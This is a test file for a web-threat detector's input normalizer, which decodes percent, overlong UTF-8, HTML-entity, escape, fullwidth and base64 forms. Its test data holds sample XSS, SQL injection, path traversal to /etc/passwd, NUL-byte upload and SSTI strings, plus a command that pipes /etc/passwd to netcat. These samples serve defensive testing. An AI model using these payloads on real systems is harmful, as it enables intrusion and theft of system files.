/**
 * Input normalization (src/threats/normalize.ts): the decoding that makes encoded attacks look
 * like plain ones, its anomaly flags, the fast path, the base64 heuristic, budgets, and time on
 * pathological inputs.
 */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import {
  DEFAULT_NORMALIZE_BUDGET,
  NORM_BAD_ESCAPE,
  NORM_CONTROL,
  NORM_FULLWIDTH,
  NORM_MULTI_ENCODED,
  NORM_NUL,
  NORM_OVERLONG,
  NORM_PERCENT,
  normalize,
} from '../src/threats/normalize.js';
import { assertCheap, cpuNsPerCall } from './threats-timing.js';

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const b64url = (s: string): string => Buffer.from(s, 'utf8').toString('base64url');

/** [input, expected text, flags that must be set, flags that must not be set] */
const DECODES: readonly (readonly [string, string, number, number])[] = [
  // percent: what is left after the engine's own round
  ['%3Cscript%3Ealert(1)%3C/script%3E', '<script>alert(1)</script>', 0, NORM_MULTI_ENCODED | NORM_BAD_ESCAPE],
  ['..%2f..%2fetc%2fpasswd', '../../etc/passwd', 0, NORM_MULTI_ENCODED],
  ['..%252f..%252fetc%252fpasswd', '../../etc/passwd', NORM_MULTI_ENCODED, 0],
  ['%25252e%25252e%25252f', '../', NORM_MULTI_ENCODED, 0],
  ['%2527 or 1=1--', "' or 1=1--", NORM_MULTI_ENCODED, 0],
  ['%e2%80%9chello%e2%80%9d', '\u201chello\u201d', 0, NORM_OVERLONG],
  ['A%F1adir al carrito', 'Añadir al carrito', 0, NORM_OVERLONG | NORM_BAD_ESCAPE],
  ['Espa%F1a %E9t%E9', 'España été', 0, NORM_OVERLONG],
  ['caf%C3%A9', 'café', 0, NORM_OVERLONG],
  // IIS %u
  ['%u003cscript%u003e', '<script>', 0, 0],
  ['%U0027 or 1=1', "' or 1=1", 0, 0],
  ['%uff1cscript%uff1e', '<script>', NORM_FULLWIDTH, 0],
  // UTF-8 overlongs
  ['..%c0%af..%c0%afetc%c0%afpasswd', '../../etc/passwd', NORM_OVERLONG, 0],
  ['%c0%ae%c0%ae/', '../', NORM_OVERLONG, 0],
  ['..%e0%80%af', '../', NORM_OVERLONG, 0],
  ['..%f0%80%80%af', '../', NORM_OVERLONG, 0],
  ['..%f8%80%80%80%af', '../', NORM_OVERLONG, 0],
  ['%c0%bcscript%c0%be', '<script>', NORM_OVERLONG, 0],
  // overlongs the engine's Latin-1 fallback left as characters (%c0%af → "À¯")
  ['..\u00c0\u00af..\u00c0\u00afetc', '../../etc', NORM_OVERLONG, 0],
  ['..\u00e0\u0080\u00afx', '../x', NORM_OVERLONG, 0],
  ['\u00c1\u00a1dmin\u00c0\u00bc', 'admin<', NORM_OVERLONG, 0],
  ['a\u00c0\u0080b', 'ab', NORM_OVERLONG | NORM_NUL, 0],
  ['À la carte, ¿qué?', 'À la carte, ¿qué?', 0, NORM_OVERLONG],
  // compatibility forms: NFKC, but `´` stays the quote it looks like (NFKC would make it ` ́`)
  ['１´ OR ´１´=´x´', '1´ OR ´1´=´x´', NORM_FULLWIDTH, 0],
  ['it´s a café´s menu', 'it´s a café´s menu', 0, NORM_FULLWIDTH],
  ['１´２', '1´2', NORM_FULLWIDTH, 0],
  // malformed %
  ['100% sure', '100% sure', NORM_BAD_ESCAPE, 0],
  ['%zz%', '%zz%', NORM_BAD_ESCAPE, 0],
  ['%%41', '%A', NORM_BAD_ESCAPE, 0],
  // NUL and controls
  ['shell.php%00.jpg', 'shell.php.jpg', NORM_NUL, 0],
  ['shell.php\u0000.jpg', 'shell.php.jpg', NORM_NUL, 0],
  ['java\u0000script:', 'javascript:', NORM_NUL, 0],
  ['%3%00c', '<', NORM_NUL, 0],
  ['a\u000bb\u000cc', 'a b c', NORM_CONTROL, 0],
  ['a\u0001b', 'a\u0001b', NORM_CONTROL, NORM_NUL],
  ['line1\r\nline2\tend', 'line1\r\nline2\tend', 0, NORM_CONTROL],
  // backslash escapes
  ['\\u003cscript\\u003e', '<script>', 0, 0],
  ['\\u{3c}img src=x\\u{3E}', '<img src=x>', 0, 0],
  ['\\ud83d\\ude00', '\u{1f600}', 0, 0],
  ['\\x3cscript\\x3e', '<script>', 0, 0],
  ['\\xc3\\xa9t\\xc3\\xa9', 'été', 0, NORM_OVERLONG],
  ["$'\\143\\141\\164' /etc/passwd", "$'cat' /etc/passwd", 0, 0],
  ['\\74script\\76', 'tscriptv', 0, 0],
  ['\\3c script\\3e', '<script>', 0, 0],
  ['java\\73 cript:alert(1)', 'javascript:alert(1)', 0, 0],
  ['e\\78pression(alert(1))', 'expression(alert(1))', 0, 0],
  ['\\00003c', '<', 0, 0],
  ['\\u0025\\u0033\\u0063', '<', NORM_MULTI_ENCODED, 0],
  ['\\u0000', '', 0, NORM_NUL],
  ['java\\x00script:', 'javascript:', 0, NORM_NUL],
  ['a\\000 b\\u{0}c', 'a bc', 0, NORM_NUL],
  ['strings end with \\0 or \\x00 in C', 'strings end with \\0 or  in C', 0, NORM_NUL],
  // Windows paths and other backslashes stay readable
  ['C:\\new\\table', 'C:\\new\\table', 0, 0],
  ['C:\\Users\\Default\\Documents\\add\\bad\\face.txt', 'C:\\Users\\Default\\Documents\\add\\bad\\face.txt', 0, 0],
  ['C:\\Program Files\\dev\\2019\\cache', 'C:\\Program Files\\dev\\2019\\cache', 0, 0],
  ['\\\\server\\share\\x41', '\\\\server\\share\\x41'.replace('\\x41', 'A'), 0, 0],
  ['\\\\x41', '\\\\x41', 0, 0],
  ["O\\'Brien said \\\"hi\\\"", "O\\'Brien said \\\"hi\\\"", 0, 0],
  // HTML character references
  ['&lt;script&gt;', '<script>', 0, 0],
  ['&lt;img src=x onerror=alert(1)&gt', '<img src=x onerror=alert(1)>', 0, 0],
  ['&#60;svg&#62;', '<svg>', 0, 0],
  ['&#x3c;svg&#x3E;', '<svg>', 0, 0],
  ['&#X3C;svg', '<svg', 0, 0],
  ['&#60svg&#x3e', '<svg>', 0, 0],
  ['&#0000060;a&#x00003c;', '<a<', 0, 0],
  ['javascript&colon;alert&lpar;1&rpar;', 'javascript:alert(1)', 0, 0],
  ['java&Tab;script&NewLine;', 'java\tscript\n', 0, 0],
  ['&lcub;&lcub;7&ast;7&rcub;&rcub;', '{{7*7}}', 0, 0],
  ['&sol;etc&sol;passwd&bsol;', '/etc/passwd\\', 0, 0],
  ['O&#39;Brien', "O'Brien", 0, 0],
  ['&quot;&apos;&grave;&semi;&equals;&num;&period;&comma;&excl;&quest;&plus;&verbar;&dollar;',
    '"\'`;=#.,!?+|$', 0, 0],
  ['&COLON;&Lt;&LT', '&COLON;&Lt;<', 0, 0],
  ['a&ltb &lt=5 &ampx &amp;y', 'a&ltb &lt=5 &ampx &y', 0, 0],
  ['Ni&ntilde;o &copy; 2024&nbsp;&euro;', 'Niño © 2024 €', 0, 0],
  ['&#0;', '', 0, NORM_NUL],
  ['java&#0000;script', 'javascript', 0, NORM_NUL],
  ['&#99999999999;', '\ufffd', 0, 0],
  ['&#xD800;', '\ufffd', 0, 0],
  ['&#;&#x;&;&unknown;R&D', '&#;&#x;&;&unknown;R&D', 0, 0],
  // mixed and nested, in rounds
  ['%26lt%3Bscript%26gt%3B', '<script>', 0, 0],
  ['&amp;lt;script&amp;gt;', '<script>', 0, 0],
  ['%5Cu003cscript', '<script', 0, 0],
  ['&#37;3Cscript', '<script', NORM_MULTI_ENCODED, 0],
  ['\\x25\\x33\\x43', '<', NORM_MULTI_ENCODED, 0],
  ['%26%2360%3B', '<', 0, 0],
  // Unicode compatibility forms
  ['\uff1cscript\uff1ealert(1)\uff1c/script\uff1e', '<script>alert(1)</script>', NORM_FULLWIDTH, 0],
  ['\uff53\uff45\uff4c\uff45\uff43\uff54', 'select', NORM_FULLWIDTH, 0],
  ['\uff05\uff13\uff23', '<', NORM_FULLWIDTH, 0],
  ['\ufe64svg\ufe65', '<svg>', NORM_FULLWIDTH, 0],
  ['http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/', 'http://127.0.0.1/', NORM_FULLWIDTH, 0],
  ['a+b C++ 1+1=2', 'a+b C++ 1+1=2', 0, NORM_FULLWIDTH],
  // form encoding one layer down: `+` is a space next to `%XX`, a plus in text with blanks
  ['%27+or+1%3D1--', "' or 1=1--", NORM_PERCENT, 0],
  ['JavaScript%3A+Basics+of+JavaScript', 'JavaScript: Basics of JavaScript', NORM_PERCENT, 0],
  ['%0D%0AV100+CAPABILITY', '\r\nV100 CAPABILITY', NORM_PERCENT, 0],
  ['a%2Bb+c', 'a+b c', NORM_PERCENT, 0],
  ['C++ at 100%25', 'C++ at 100%', NORM_PERCENT, 0],
  ['1+1=2', '1+1=2', 0, NORM_PERCENT],
  ['Cafe\u0301 cre\u0300me', 'Café crème', 0, NORM_FULLWIDTH],
  ['¿Dónde está el niño? Ñandú, pingüino', '¿Dónde está el niño? Ñandú, pingüino', 0, NORM_FULLWIDTH | NORM_OVERLONG],
  ['日本語のテキスト', '日本語のテキスト', 0, NORM_FULLWIDTH],
  ['Привет, мир', 'Привет, мир', 0, NORM_FULLWIDTH],
];

describe('normalize: decoding table', () => {
  for (const [input, expected, must, mustNot] of DECODES) {
    test(JSON.stringify(input), () => {
      const r = normalize(input);
      assert.equal(r.text, expected);
      assert.equal(r.flags & must, must, `flags ${r.flags} lack ${must}`);
      assert.equal(r.flags & mustNot, 0, `flags ${r.flags} include ${r.flags & mustNot}`);
      assert.equal(r.truncated, false);
    });
  }
});

describe('normalize: overlong forms only in bytes read as Latin-1', () => {
  test('text with characters past U+00FF keeps `Á¨` as two letters (a Mac keyboard row, big-list-of-naughty-strings)', () => {
    const r = normalize('Œ„´‰ˇÁ¨ˆØ∏”’');
    assert.equal(r.flags & NORM_OVERLONG, 0);
    assert.ok(r.text.startsWith('Œ„´‰ˇÁ'));
  });
  test('the same pair in Latin-1 bytes is an overlong `h`', () => {
    const r = normalize('\u00c0\u00afetc\u00c1\u00a8');
    assert.equal(r.flags & NORM_OVERLONG, NORM_OVERLONG);
    assert.equal(r.text, '/etch');
  });
});

describe('normalize: fast path', () => {
  const PLAIN = [
    'hello',
    '12345',
    'john.doe@example.com',
    'select a plan',
    'Vino Rioja',
    '1 - 2',
    "O'Brien",
    '2024-05-01T10:00:00Z',
    '+34 600 123 456',
    'https://api.example.com/v1/items?',
    'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/126.0',
    'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
    '<script>alert(1)</script>',
    '1F767F17239C9B670A39E9B10C3825F4',
    '550e8400-e29b-41d4-a716-446655440000',
    'internationalization',
    'multi\nline\ttext\r\n',
    '',
  ];
  for (const v of PLAIN) {
    test(`returns the value itself: ${JSON.stringify(v)}`, () => {
      const r = normalize(v);
      assert.equal(r.text, v);
      assert.ok(Object.is(r.text, v));
      assert.equal(r.decoded64, undefined);
      assert.equal(r.flags, 0);
      assert.equal(r.truncated, false);
    });
  }

  test('values with nothing to decode but non-ASCII or a stray % keep their text', () => {
    assert.equal(normalize('Añadir al carrito').text, 'Añadir al carrito');
    assert.equal(normalize('Añadir al carrito').flags, 0);
  });

  test('is fast on typical benign values', () => {
    const values = ['john.doe@example.com', 'Vino Rioja 2019 reserva', 'c/ las chumberas, 38', '7545332607068950', 'select a plan now'];
    let sink = 0;
    // CPU time, best of three batches: the machine may be shared.
    const perCall = cpuNsPerCall((i) => (sink += normalize(values[i % values.length]!).flags), 100000);
    assert.equal(sink, 0);
    // Target is well under 0.2 µs; the bound leaves room for a loaded CI machine.
    assert.ok(perCall < 1000, `${perCall.toFixed(0)} ns per call`);
  });
});

describe('normalize: base64 heuristic', () => {
  test('finds base64 of an attack, standard and url alphabets, padded or not', () => {
    const attack = '<script>alert(1)</script>';
    for (const enc of [b64(attack), b64url(attack), b64(attack).replace(/=+$/, '')]) {
      assert.equal(normalize(enc).decoded64, attack, enc);
      assert.equal(normalize(`data=${enc}`).decoded64, attack, enc);
    }
    assert.equal(normalize(`data:text/html;base64,${b64(attack)}`).decoded64, attack);
    assert.equal(normalize(`/api/files/${b64url("' or 1=1 union select 1-- ")}`).decoded64, "' or 1=1 union select 1-- ");
    assert.equal(normalize(b64('; cat /etc/passwd | nc x 1')).decoded64, '; cat /etc/passwd | nc x 1');
    // percent-encoded padding: decoded first
    assert.equal(normalize(b64('<svg onload=alert(1)>').replace(/=/g, '%3D')).decoded64, '<svg onload=alert(1)>');
    // the decoded text is itself decoded
    assert.equal(normalize(b64('%3Cscript%3Ealert(1)')).decoded64, '<script>alert(1)');
  });

  test('ignores random tokens, hashes, ids and words', () => {
    const NOT = [
      'sk_live_4eC39HqLyjWDarjtT1zdp7dc',
      'AKIAIOSFODNN7EXAMPLE',
      'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
      'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
      'd41d8cd98f00b204e9800998ecf8427e',
      'DA39A3EE5E6B4B0D3255BFEF95601890AFD80709',
      'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
      '550e8400-e29b-41d4-a716-446655440000',
      'JSESSIONID=1F767F17239C9B670A39E9B10C3825F4',
      'Donaudampfschifffahrtsgesellschaft',
      'InternationalizationServiceFactory',
      '/tienda1/publico/autenticar.jsp',
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36',
    ];
    for (const v of NOT) assert.equal(normalize(v).decoded64, undefined, v);
    // 2,000 random 32-character keys of the base64url alphabet: none decodes to text.
    let seed = 12345;
    const rnd = (): number => {
      seed = (seed * 1103515245 + 12345) & 0x7fffffff;
      return seed;
    };
    const ALPHA = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    let hits = 0;
    for (let k = 0; k < 2000; k++) {
      let key = '';
      for (let i = 0; i < 32; i++) key += ALPHA[rnd() % 64];
      if (normalize(key).decoded64 !== undefined) hits++;
    }
    assert.equal(hits, 0);
  });

  test('JWT: header and claims are reported as text, the signature is not', () => {
    const header = b64url('{"alg":"HS256","typ":"JWT"}');
    const claims = b64url('{"sub":"1234567890","name":"John Doe","iat":1516239022}');
    const jwt = `${header}.${claims}.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c`;
    const r = normalize(jwt);
    assert.equal(r.text, jwt);
    assert.equal(r.decoded64, '{"alg":"HS256","typ":"JWT"}\n{"sub":"1234567890","name":"John Doe","iat":1516239022}');
  });

  test('base64 of plain prose is reported (it is text), of binary data is not', () => {
    assert.equal(normalize(b64('hello world, how are you')).decoded64, 'hello world, how are you');
    const bin = Buffer.from(Array.from({ length: 48 }, (_, i) => (i * 97 + 13) & 0xff)).toString('base64');
    assert.equal(normalize(bin).decoded64, undefined);
  });
});

describe('normalize: budget', () => {
  test('rounds are bounded by maxRounds', () => {
    let v = '<';
    for (let i = 0; i < 5; i++) v = encodeURIComponent(v);
    // %25252525253C: five encodings, three rounds leave two.
    assert.equal(normalize(v).text, '%253C');
    assert.equal(normalize(v, { maxRounds: 5, maxOutput: 1000 }).text, '<');
    assert.equal(normalize(v, { maxRounds: 1, maxOutput: 1000 }).text, '%2525253C');
  });

  test('output is cut at maxOutput', () => {
    const r = normalize('a%41'.repeat(100), { maxRounds: 3, maxOutput: 50 });
    assert.equal(r.truncated, true);
    assert.ok(r.text.length <= 50);
    const plain = normalize('x'.repeat(100), { maxRounds: 3, maxOutput: 50 });
    assert.equal(plain.truncated, true);
    assert.equal(plain.text, 'x'.repeat(50));
    // NFKC expansion (U+FDFA is 18 characters) is cut too.
    const grown = normalize('\ufdfa'.repeat(100), { maxRounds: 3, maxOutput: 200 });
    assert.equal(grown.truncated, true);
    assert.ok(grown.text.length <= 200);
    assert.equal(DEFAULT_NORMALIZE_BUDGET.maxRounds, 3);
    assert.equal(DEFAULT_NORMALIZE_BUDGET.maxOutput, 16384);
  });

  test('does not split a surrogate pair when cutting', () => {
    const r = normalize('a' + '\u{1f600}'.repeat(10) + '&lt;', { maxRounds: 3, maxOutput: 4 });
    assert.equal(r.text, 'a\u{1f600}');
  });
});

describe('normalize: pathological inputs stay linear', () => {
  let nested = '<script>';
  for (let i = 0; i < 50; i++) nested = encodeURIComponent(nested);
  const CASES: readonly (readonly [string, string])[] = [
    ['100 KB of %25', '%25'.repeat(34000)],
    ['%%%%', '%'.repeat(100000)],
    ['%u%u%u', '%u'.repeat(50000)],
    ['&#&#&#', '&#'.repeat(50000)],
    ['&#x&#x', '&#x'.repeat(33000)],
    ['long numeric reference', '&#' + '0'.repeat(100000)],
    ['&aaaa', '&' + 'a'.repeat(100000)],
    ['&lt&lt', '&lt'.repeat(33000)],
    ['\\u\\u\\u', '\\u'.repeat(50000)],
    ['\\u{\\u{', '\\u{'.repeat(33000)],
    ['\\u{000…', '\\u{' + '0'.repeat(100000)],
    ['\\\\\\\\', '\\'.repeat(100000)],
    ['\\x\\x', '\\x'.repeat(50000)],
    ['\\3c\\3c', '\\3c'.repeat(33000)],
    ['%c0%c0', '%c0'.repeat(33000)],
    ['À¯À¯', '\u00c0\u00af'.repeat(50000)],
    ['NUL', '\u0000'.repeat(100000)],
    ['controls', '\u0001\u000b'.repeat(50000)],
    ['fullwidth', '\uff1c'.repeat(100000)],
    ['base64 alphabet', 'Ab'.repeat(50000)],
    ['base64 pieces', 'Abcdefghijklmnop/'.repeat(6000)],
    ['base64 text', b64('<a> '.repeat(25000))],
    ['50 nested rounds of encoding', nested],
    ['a', 'a'.repeat(100000)],
  ];
  for (const [name, input] of CASES) {
    test(name, () => {
      const r = normalize(input);
      assert.equal(typeof r.text, 'string');
      assert.ok(r.text.length <= DEFAULT_NORMALIZE_BUDGET.maxOutput);
      assertCheap(name, normalize, input, { ceilingMs: 60 });
    });
  }

  test('never throws on odd input', () => {
    const odd = ['\ud800', '\udc00abc', '%ed%a0%80', '%f4%90%80%80', '&#x110000;', '\\u{110000}', '%fe%ff', '\\u{', '&', '%', '\\'];
    for (const v of odd) assert.doesNotThrow(() => normalize(v));
    assert.equal(normalize('%ed%a0%80').text, '\ufffd');
    assert.ok((normalize('%ed%a0%80').flags & NORM_OVERLONG) !== 0);
    assert.equal(normalize('\\u{110000}').text, '\\u{110000}');
  });
});
